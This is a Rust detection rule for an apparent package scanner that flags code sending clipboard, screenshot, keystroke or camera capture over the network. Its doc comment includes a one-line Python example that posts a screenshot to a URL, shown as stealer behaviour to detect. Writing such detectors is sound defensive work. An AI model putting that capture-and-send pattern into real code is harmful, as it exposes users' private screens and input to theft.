//! # Clipboard, screen, keyboard or camera leave over the network
//!
//! ## What it finds
//! What is captured from a device of the user reaches a network sink.
//!
//! ## Why it matters
//! Stealers take screenshots, log keys and read the clipboard.
//!
//! ## Example
//! ```python
//! requests.post(url, files={"f": ImageGrab.grab().tobytes()})
//! ```
//!
//! ## What to do
//! Do not install, unless it is exactly what the program is for.
//!
//! ## When it is wrong
//! Remote-desktop and screenshot tools do this by design.
use foretaste_engine::prelude::*;

declare_rule! {
    DeviceCaptureToNetwork,
    id: "device-capture-to-network",
    title: "sends what it captures from the user's devices",
    group: Chain,
    severity: Critical,
    confidence: High,
    needs: [Code],
    tags: ["T1113", "T1115", "T1056.001", "T1123"],
    since: "0.1.0",
}

impl ChainRule for DeviceCaptureToNetwork {
    fn judge(&self, chain: &Chain<'_>, _scene: &Scene<'_>) -> Option<Finding> {
        let (source, sink) = (chain.source()?, chain.sink()?);
        let what = match source.capability {
            Capability::Clipboard => "the clipboard",
            Capability::Screen => "screenshots",
            Capability::Keyboard => "key strokes",
            Capability::Camera => "recordings",
            _ => return None,
        };
        if !sink.capability.is_network_sink() || chain.flow.link == FlowLink::Scope {
            return None;
        }
        let context = chain.context();
        let mut finding = self
            .finding(format!(
                "sends {what} over the network {}",
                context.phrase()
            ))
            .context(context);
        finding.evidence = chain.evidence(|step| step.api.to_string());
        Some(finding)
    }
}
